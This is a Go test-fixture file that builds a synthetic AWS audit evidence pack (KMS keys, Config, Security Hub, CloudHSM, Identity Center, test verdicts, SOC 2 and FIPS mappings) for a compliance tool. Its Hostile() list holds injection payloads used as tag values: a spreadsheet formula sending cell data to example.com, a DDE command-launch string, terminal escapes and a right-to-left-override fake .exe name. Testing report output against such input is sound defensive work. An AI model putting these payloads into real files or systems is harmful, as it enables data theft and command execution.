package reporttest

import (
	"fmt"
	"io/fs"
	"strconv"
	"strings"
	"time"

	"github.com/auditseal/auditseal/collectors/evidence"
	"github.com/auditseal/auditseal/frameworks/assess"
	"github.com/auditseal/auditseal/report"
)

const (
	management = "012345678901"
	production = "111122223333"
	sandbox    = "222233334444"
	logs       = "333344445555"
	excluded   = "444455556666"
)

// Hostile are tag values of the kind that AWS stores without a word: formulas, terminal escapes, text that turns direction,
// letters without width, signs beyond the first plane, and 30,000 characters at once.
func Hostile() []string {
	return []string{
		"=HYPERLINK(\"http://example.com/?\"&A1,\"open\")",
		"+cmd|' /C calc'!A0",
		"\x1b[31mred\x1b[0m and a bell \a",
		"invoice\u202egpj.exe\u202c",
		"zero\u200bwidth\u200djoined\ufeff",
		"key 🔑 of 日本語 team",
		"line one\nline two\tand a tab",
		"-1234.50",
		"000123",
		"C:\\users\\%TEMP%\\\"quoted\"",
		strings.Repeat("0123456789 abcdefghijklmnopqrstuvwxyz:/", 770)[:30000],
	}
}

func exampleRun() report.Run {
	p, err := evidence.ParsePeriod("2026-Q3")
	if err != nil {
		panic(err)
	}
	role := func(account string) string {
		return "arn:aws:sts::" + account + ":assumed-role/AuditsealReadOnly/auditseal"
	}
	return report.Run{
		Format: report.RunFormat, Tool: report.Tool{Name: "auditseal", Version: "0.1.0", Go: "go1.26.8"},
		Organization: "Example Corp", PeriodName: "2026-Q3", Role: "AuditsealReadOnly", Redact: []string{"identity"},
		Scope: evidence.Scope{
			Accounts: []string{management, production, sandbox, logs},
			Excluded: []evidence.Exclusion{{Account: excluded, Reason: "Closed on 2026-08-14; no resources are left in it."}},
			Regions:  []string{"eu-west-1", "us-east-1"}, Home: "eu-west-1", Period: p, AsOf: time.Date(2026, 10, 2, 6, 0, 0, 0, time.UTC),
		},
		Collectors: []string{"cloudhsm", "config", "identitycenter", "kms", "securityhub"},
		Callers: []report.Caller{
			{Account: management, ARN: role(management), UserID: "AROAEXAMPLE0000000001:auditseal"},
			{Account: production, ARN: role(production), UserID: "AROAEXAMPLE0000000002:auditseal"},
			{Account: sandbox, ARN: role(sandbox), UserID: "AROAEXAMPLE0000000003:auditseal"},
			{Account: logs, Failure: "Timeout: no answer from sts.us-east-1.amazonaws.com"},
		},
	}
}

// Pack is the small pack: an organization of four accounts in two regions, with every result and most outcomes.
func Pack() fs.FS {
	b := newBuilder(exampleRun())
	for _, account := range b.run.Scope.Accounts {
		for _, region := range b.run.Scope.Regions {
			b.kms(account, region)
			b.config(account, region)
			b.securityHub(account, region)
			b.cloudHSM(account, region)
		}
	}
	b.identityCenter()
	b.exampleTests()
	b.past()
	b.exampleFrameworks()
	b.file("manual/manual.yaml").WriteString(manualIndex)
	b.file("manual/identity-center-mfa.txt").WriteString("Settings > Authentication: prompt every time; security keys and authenticator apps.\n")
	b.file("manual/key-ceremony-2025.txt").WriteString("Minutes of the key ceremony of 2025-05-20.\n")
	return b.pack(Kinds())
}

const manualIndex = `# What people supplied. answers names tests, or framework-control.
files:
  - file: identity-center-mfa.txt
    answers: [identity-center-mfa]
    owner: Head of Identity
    effective: 2026-09-30
    expires: 2026-12-31
    note: Read off the console on a call, in front of the platform lead.
  - file: key-ceremony-2025.txt
    answers: [fips-cryptography-FC-9]
    owner: Head of Platform
    effective: 2025-05-20
    expires: 2026-05-20
`

func (b *builder) kms(account, region string) {
	q := question{account: account, region: region, collector: "kms", service: "kms", operation: "ListKeys", request: `{"Limit":1000}`, status: 200, outcome: evidence.Collected}
	if account == sandbox && region == "us-east-1" {
		q.status, q.outcome = 400, evidence.Denied
		q.body = `{"__type":"AccessDeniedException","Message":"explicit deny in a service control policy"}`
		b.gap(b.ask(q), evidence.Denied, "AccessDeniedException", "User: arn:aws:sts::222233334444:assumed-role/AuditsealReadOnly/auditseal is not authorized to perform: kms:ListKeys with an explicit deny in a service control policy", []string{"kms.key"}, "", nil)
		return
	}
	n := map[string]int{management: 3, production: 17, sandbox: 9, logs: 5}[account]
	var listed []string
	for i := range n {
		listed = append(listed, fmt.Sprintf(`{"KeyId":"%s","KeyArn":"%s"}`, keyID(account, region, i), keyARN(account, region, i)))
	}
	q.body = `{"Keys":[` + strings.Join(listed, ",") + `],"Truncated":false}`
	list := b.ask(q)
	for i := range n {
		b.key(list, account, region, i)
	}
}

func keyID(account, region string, i int) string { return requestID(account, region, "key", i) }

func keyARN(account, region string, i int) string {
	return "arn:aws:kms:" + region + ":" + account + ":key/" + keyID(account, region, i)
}

func (b *builder) key(list evidence.Exchange, account, region string, i int) {
	arn := keyARN(account, region, i)
	k := &Key{ARN: arn, Manager: "CUSTOMER", State: "Enabled", Spec: "SYMMETRIC_DEFAULT", Origin: "AWS_KMS",
		Created: time.Date(2023, 1+time.Month(i%12), 3+i, 9, 30, 0, 0, time.UTC), Aliases: []string{}, Tags: map[string]string{}}
	k.ID, k.Account, k.Region = arn, account, region
	if i%3 == 0 {
		k.Manager = "AWS"
		k.Aliases = []string{"alias/aws/ebs"}
	} else {
		k.Aliases = []string{"alias/app-" + strconv.Itoa(i)}
	}
	if i%5 == 4 {
		k.Spec = "RSA_2048"
	}
	if i == 7 {
		k.State = "Disabled"
	}
	if i%7 == 1 {
		k.Tags["owner"] = "platform"
	}
	if h := Hostile(); account == production && region == "eu-west-1" && i < len(h) {
		k.Tags["note"] = h[i]
	}
	q := question{account: account, region: region, collector: "kms", service: "kms", request: `{"KeyId":"` + arn + `"}`, status: 200, outcome: evidence.Collected}
	q.operation, q.body = "DescribeKey", fmt.Sprintf(`{"KeyMetadata":{"Arn":%q,"KeyManager":%q,"KeyState":%q,"KeySpec":%q,"Origin":%q}}`, arn, k.Manager, k.State, k.Spec, k.Origin)
	describe := b.ask(q)
	k.Evidence = []string{list.ID, describe.ID}
	q.operation = "GetKeyRotationStatus"
	if account == production && region == "us-east-1" && (i == 1 || i == 8) {
		q.status, q.outcome, q.body = 400, evidence.Denied, `{"__type":"AccessDeniedException"}`
		x := b.ask(q)
		g := b.gap(x, evidence.Denied, "AccessDeniedException", "The key policy does not allow kms:GetKeyRotationStatus \x1b[1mfor this role", nil, arn, []string{"rotation"})
		k.Unknown = []evidence.Unknown{{Field: "rotation", Gap: g.ID, Code: g.Code}}
		k.Evidence = append(k.Evidence, x.ID)
		k.Collected = x.Date
	} else {
		k.Rotation.Enabled = i%6 != 2
		if k.Rotation.Enabled {
			days := 365
			k.Rotation.PeriodDays = &days
		}
		q.body = fmt.Sprintf(`{"KeyRotationEnabled":%v}`, k.Rotation.Enabled)
		x := b.ask(q)
		k.Evidence = append(k.Evidence, x.ID)
		k.Collected = x.Date
	}
	b.add(k)
}

func (b *builder) config(account, region string) {
	q := question{account: account, region: region, collector: "config", service: "config", operation: "DescribeConfigurationRecorders", request: "{}", status: 200, outcome: evidence.Collected,
		body: `{"ConfigurationRecorders":[{"name":"default","recordingGroup":{"allSupported":true}}]}`}
	x := b.ask(q)
	r := &Recorder{Name: "default", Recording: true, AllTypes: true}
	r.ID, r.Account, r.Region, r.Collected, r.Evidence = "arn:aws:config:"+region+":"+account+":configuration-recorder/default", account, region, x.Date, []string{x.ID}
	b.add(r)
	q.operation, q.request = "DescribeComplianceByConfigRule", `{"NextToken":""}`
	if account == logs && region == "us-east-1" {
		q.outcome, q.failure = evidence.CutShort, &evidence.Failure{Code: "TruncatedBody", Message: "the body ended after 4096 of 9214 bytes"}
		b.gap(b.ask(q), evidence.CutShort, "TruncatedBody", "the body ended after 4096 of 9214 bytes", []string{"config.rule_compliance"}, "", nil)
		return
	}
	q.body = `{"ComplianceByConfigRules":[]}`
	x = b.ask(q)
	for i, name := range []string{"cmk-backing-key-rotation-enabled", "kms-cmk-not-scheduled-for-deletion", "securityhub-enabled", "vpc-flow-logs-enabled"} {
		rule := &RuleCompliance{Rule: name, Compliance: "COMPLIANT"}
		rule.ID, rule.Account, rule.Region, rule.Collected, rule.Evidence = "arn:aws:config:"+region+":"+account+":config-rule/"+name, account, region, x.Date, []string{x.ID}
		if account == production && i == 0 {
			rule.Compliance, rule.Resources = "NON_COMPLIANT", 5
		}
		if account == management && i == 3 {
			rule.Compliance = "INSUFFICIENT_DATA"
		}
		b.add(rule)
	}
}

func (b *builder) securityHub(account, region string) {
	q := question{account: account, region: region, collector: "securityhub", service: "securityhub", operation: "DescribeHub", request: "{}", status: 200, outcome: evidence.Collected,
		body: `{"HubArn":"…","AutoEnableControls":true}`}
	if account == sandbox {
		q.status, q.outcome, q.body = 401, evidence.NotEnabled, `{"Code":"InvalidAccessException","Message":"Account 222233334444 is not subscribed to AWS Security Hub"}`
		b.gap(b.ask(q), evidence.NotEnabled, "InvalidAccessException", "Account 222233334444 is not subscribed to AWS Security Hub", []string{"securityhub.hub"}, "", nil)
		return
	}
	x := b.ask(q)
	h := &Hub{AutoEnable: true, Since: time.Date(2024, 2, 1, 8, 0, 0, 0, time.UTC)}
	h.ID, h.Account, h.Region, h.Collected, h.Evidence = "arn:aws:securityhub:"+region+":"+account+":hub/default", account, region, x.Date, []string{x.ID}
	b.add(h)
}

func (b *builder) cloudHSM(account, region string) {
	q := question{account: account, region: region, collector: "cloudhsm", service: "cloudhsm", operation: "DescribeClusters", request: "{}", status: 200, outcome: evidence.Empty, body: `{"Clusters":[]}`}
	switch {
	case account == logs && region == "us-east-1":
		q.status, q.outcome, q.body = 400, evidence.Throttled, `{"__type":"ThrottlingException","message":"Rate exceeded"}`
		b.gap(b.ask(q), evidence.Throttled, "ThrottlingException", "Rate exceeded", []string{"cloudhsm.cluster"}, "", nil)
	case account == production:
		q.outcome, q.body = evidence.Collected, `{"Clusters":[{"ClusterId":"cluster-4ftmexample"}]}`
		x := b.ask(q)
		c := &Cluster{State: "ACTIVE", HSMType: "hsm2m.medium"}
		if region == "eu-west-1" {
			fips := "FIPS"
			c.Mode = &fips
		}
		c.ID, c.Account, c.Region, c.Collected, c.Evidence = "arn:aws:cloudhsm:"+region+":"+account+":cluster/cluster-4ftmexample", account, region, x.Date, []string{x.ID}
		b.add(c)
		b.cell(account, region, "cloudhsm", "cloudhsm", "ListTags", evidence.NotCalled)
	default:
		b.ask(q)
	}
}

func (b *builder) identityCenter() {
	q := question{account: management, region: "eu-west-1", collector: "identitycenter", service: "sso", operation: "ListPermissionSets", request: "{}", status: 200, outcome: evidence.Collected,
		body: `{"PermissionSets":["…"]}`, redacted: 3}
	x := b.ask(q)
	for i, name := range []string{"Administrator", "Billing", "ReadOnly", "PowerUser"} {
		p := &PermissionSet{Name: name, Policies: []string{"arn:aws:iam::aws:policy/" + name + "Access"}}
		p.ID, p.Account, p.Region, p.Collected, p.Evidence = fmt.Sprintf("arn:aws:sso:::permissionSet/ssoins-7223example/ps-%04d", i), management, "eu-west-1", x.Date, []string{x.ID}
		session := "PT4H"
		if i == 0 {
			session = "PT12H"
		}
		if i != 2 {
			p.Session = &session
		}
		b.add(p)
	}
	b.cell(management, "us-east-1", "identitycenter", "sso", "ListPermissionSets", evidence.Skipped)
}

func text(field string, v any) assess.Value { return assess.Value{Field: field, Value: fmt.Sprint(v)} }

func (b *builder) exampleTests() {
	accepted := &assess.Acceptance{ID: "AX-2026-014", Owner: "Head of Platform", Approver: "Chief Information Security Officer", Reason: "Key of a vendor's appliance that can't follow a rotation; replaced with the appliance in December.", Expires: "2026-12-31"}
	expired := &assess.Acceptance{ID: "AX-2025-031", Owner: "Head of Payments", Approver: "Chief Information Security Officer", Reason: "Migration of the ledger was to end in June.", Expires: "2026-06-30", Expired: true}
	session := &assess.Acceptance{ID: "AX-2026-020", Owner: "Head of Identity", Approver: "Chief Information Security Officer", Reason: "Break-glass access needs a whole shift.", Expires: "2027-03-31"}
	first, last := keyARN(production, "eu-west-1", 2), keyARN(production, "us-east-1", 2)
	b.a.Accepted = []assess.AcceptedStatus{
		{Acceptance: *expired, Test: "kms-key-rotation", Record: last, Status: "expired"},
		{Acceptance: *accepted, Test: "kms-key-rotation", Record: first, Status: "applied"},
		{Acceptance: *session, Test: "identity-center-session", Record: "arn:aws:sso:::permissionSet/ssoins-7223example/ps-0000", Status: "applied"},
		{Acceptance: assess.Acceptance{ID: "AX-2026-007", Owner: "Head of Data", Approver: "Head of Platform", Reason: "Bucket of the old warehouse.", Expires: "2027-01-31"}, Test: "kms-key-owner-tag", Record: "arn:aws:kms:eu-west-1:111122223333:key/00000000-0000-4000-8000-000000000000", Status: "orphaned"},
	}
	b.test(assess.TestResult{ID: "kms-key-rotation", Statement: "Every enabled customer managed symmetric key made by KMS rotates at least once a year.", Population: "kms.key",
		Where:  `it.manager == "CUSTOMER" && it.state == "Enabled" && it.spec == "SYMMETRIC_DEFAULT" && it.origin == "AWS_KMS"`,
		Expect: "it.rotation.enabled && it.rotation.period_days <= 365", Require: "every", IfEmpty: assess.NotApplicable, Over: "instant",
		Why: "Rotation limits how much data one version of key material protects, and how long a version that leaked stays useful."},
		func(r evidence.Record) verdict {
			k := r.(*Key)
			v := verdict{selected: k.Manager == "CUSTOMER" && k.State == "Enabled" && k.Spec == "SYMMETRIC_DEFAULT", met: k.Rotation.Enabled, unknown: k.Unknown,
				values: []assess.Value{text("manager", k.Manager), text("state", k.State), text("spec", k.Spec), text("origin", k.Origin), text("rotation.enabled", k.Rotation.Enabled), {Field: "rotation.period_days", Value: "(absent)"}}}
			if len(k.Unknown) > 0 {
				v.values = v.values[:4]
			}
			switch k.ID {
			case first:
				v.accepted = accepted
			case last:
				v.accepted = expired
			}
			return v
		})
	b.test(assess.TestResult{ID: "kms-key-owner-tag", Statement: "Every key names its owner in a tag.", Population: "kms.key", Expect: `"owner" in it.tags`, Require: "every", IfEmpty: assess.Exception, Over: "instant"},
		func(r evidence.Record) verdict {
			k := r.(*Key)
			_, ok := k.Tags["owner"]
			return verdict{selected: true, met: ok, values: []assess.Value{{Field: "tags", Value: string(encode(k.Tags))}}}
		})
	b.test(assess.TestResult{ID: "kms-no-key-pending-deletion", Statement: "No key is pending deletion.", Population: "kms.key", Expect: `it.state == "PendingDeletion"`, Require: "none", IfEmpty: assess.Incomplete, Over: "instant"},
		func(r evidence.Record) verdict { return verdict{selected: true, met: true} })
	b.test(assess.TestResult{ID: "kms-external-key-store", Statement: "Keys in an external key store are described by a certificate of their own.", Population: "kms.key", Where: `it.origin == "EXTERNAL_KEY_STORE"`, Expect: "false", Require: "every", IfEmpty: assess.NotApplicable, Over: "instant"},
		func(r evidence.Record) verdict { return verdict{} })
	// The closure of this one can't know of the gap: a mapping that says not-applicable over a broken population is incomplete.
	b.test(assess.TestResult{ID: "cloudhsm-cluster-fips", Statement: "Every CloudHSM cluster runs in FIPS mode.", Population: "cloudhsm.cluster", Where: `it.state != "DELETED"`, Expect: `it.mode == "FIPS"`, Require: "every", IfEmpty: assess.NotApplicable, Over: "instant"},
		func(r evidence.Record) verdict {
			c := r.(*Cluster)
			if c.Mode == nil {
				return verdict{selected: true, fault: "it.mode is absent, and the expression reads it without has()", values: []assess.Value{text("state", c.State), {Field: "mode", Value: "(absent)"}}}
			}
			return verdict{selected: true, met: true}
		})
	b.test(assess.TestResult{ID: "config-recorder-on", Statement: "AWS Config records every supported resource type in every account and region.", Population: "config.recorder", Expect: "it.recording && it.all_types", Require: "every", IfEmpty: assess.Exception, Over: "instant"},
		func(r evidence.Record) verdict { return verdict{selected: true, met: true} })
	b.test(assess.TestResult{ID: "config-rules-compliant", Statement: "No AWS Config rule that speaks of keys is non-compliant.", Population: "config.rule_compliance", Where: `it.rule in ["cmk-backing-key-rotation-enabled", "kms-cmk-not-scheduled-for-deletion"]`, Expect: `it.compliance == "COMPLIANT"`, Require: "every", IfEmpty: assess.Incomplete, Over: "instant"},
		func(r evidence.Record) verdict {
			c := r.(*RuleCompliance)
			return verdict{selected: strings.Contains(c.Rule, "k-") && c.Rule != "vpc-flow-logs-enabled", met: c.Compliance == "COMPLIANT", values: []assess.Value{text("rule", c.Rule), text("compliance", c.Compliance), text("resources", c.Resources)}}
		})
	b.test(assess.TestResult{ID: "securityhub-enabled", Statement: "Security Hub is enabled in every account and region.", Population: "securityhub.hub", Expect: "it.auto_enable", Require: "every", IfEmpty: assess.Exception, Over: "instant"},
		func(r evidence.Record) verdict { return verdict{selected: true, met: true} })
	b.test(assess.TestResult{ID: "identity-center-session", Statement: "No permission set gives a session of more than eight hours.", Population: "identitycenter.permission_set", Expect: `!has(it.session) || it.session in ["PT1H", "PT2H", "PT4H", "PT8H"]`, Require: "every", IfEmpty: assess.Manual, Over: "instant"},
		func(r evidence.Record) verdict {
			p := r.(*PermissionSet)
			return verdict{selected: true, met: p.Session == nil || *p.Session != "PT12H", accepted: session, values: []assess.Value{text("name", p.Name), text("session", "PT12H")}}
		})
	b.a.Tests = append(b.a.Tests, assess.TestResult{ID: "identity-center-mfa", Statement: "People sign in to IAM Identity Center with a second factor, every time.",
		Manual: "A dated export or screenshot of Settings > Authentication that shows when a second factor is asked for and which kinds are allowed.",
		Result: assess.Manual, Reason: "No public API tells it; a person must supply the evidence."})
}

func (b *builder) exampleFrameworks() {
	b.framework(assess.FrameworkResult{ID: "fips-cryptography", Title: "FIPS-validated cryptography", Version: "2026-11", Controls: []assess.ControlResult{
		{ID: "FC-1", Group: "Keys", Title: "Keys rotate", Tests: []string{"kms-key-rotation", "kms-key-rotation-throughout", "config-rules-compliant"}, SecurityHub: []string{"KMS.4"}, ConfigRules: []string{"cmk-backing-key-rotation-enabled"}},
		{ID: "FC-2", Group: "Keys", Title: "Keys are not lost", Tests: []string{"kms-no-key-pending-deletion", "kms-external-key-store-throughout"}, SecurityHub: []string{"KMS.3"}, ConfigRules: []string{"kms-cmk-not-scheduled-for-deletion"}},
		{ID: "FC-3", Group: "Keys", Title: "Each key has an owner", Tests: []string{"kms-key-owner-tag"}},
		{ID: "FC-4", Group: "Modules", Title: "Hardware modules run in FIPS mode", Tests: []string{"cloudhsm-cluster-fips"}},
		{ID: "FC-5", Group: "Modules", Title: "External key stores", Tests: []string{"kms-external-key-store"}},
		{ID: "FC-6", Group: "Modules", Title: "Modules of partners", NotApplicable: "No partner's module is used in this organization's AWS accounts."},
		{ID: "FC-7", Group: "Transport", Title: "Endpoints that are validated are used", Planned: "Collectors for load balancers and CloudFront read the policies of listeners; they come in a later release."},
		{ID: "FC-9", Group: "Transport", Title: "Key ceremonies are witnessed", Manual: "The minutes of each key ceremony in the period, signed by both witnesses."},
	}})
	b.framework(assess.FrameworkResult{ID: "soc2-2017", Title: "SOC 2 trust services criteria", Version: "2017 (2022 points of focus)", Source: "AICPA TSP section 100", Controls: []assess.ControlResult{
		{ID: "CC6.1", Group: "Logical and physical access", Title: "Logical access security software, infrastructure and architectures protect information assets", Tests: []string{"kms-key-rotation", "identity-center-session", "identity-center-mfa"}},
		{ID: "CC6.3", Group: "Logical and physical access", Title: "Access is authorized, modified and removed on the basis of roles", Tests: []string{"identity-center-session"}, Manual: "The access review of the quarter, with who reviewed which permission sets and what was changed."},
		{ID: "CC7.1", Group: "System operations", Title: "Changes to configurations that introduce vulnerabilities are detected", Tests: []string{"config-recorder-on"}},
		{ID: "CC7.2", Group: "System operations", Title: "System components are monitored for anomalies", Tests: []string{"securityhub-enabled", "config-recorder-on"}, SecurityHub: []string{"Config.1"}},
	}})
}
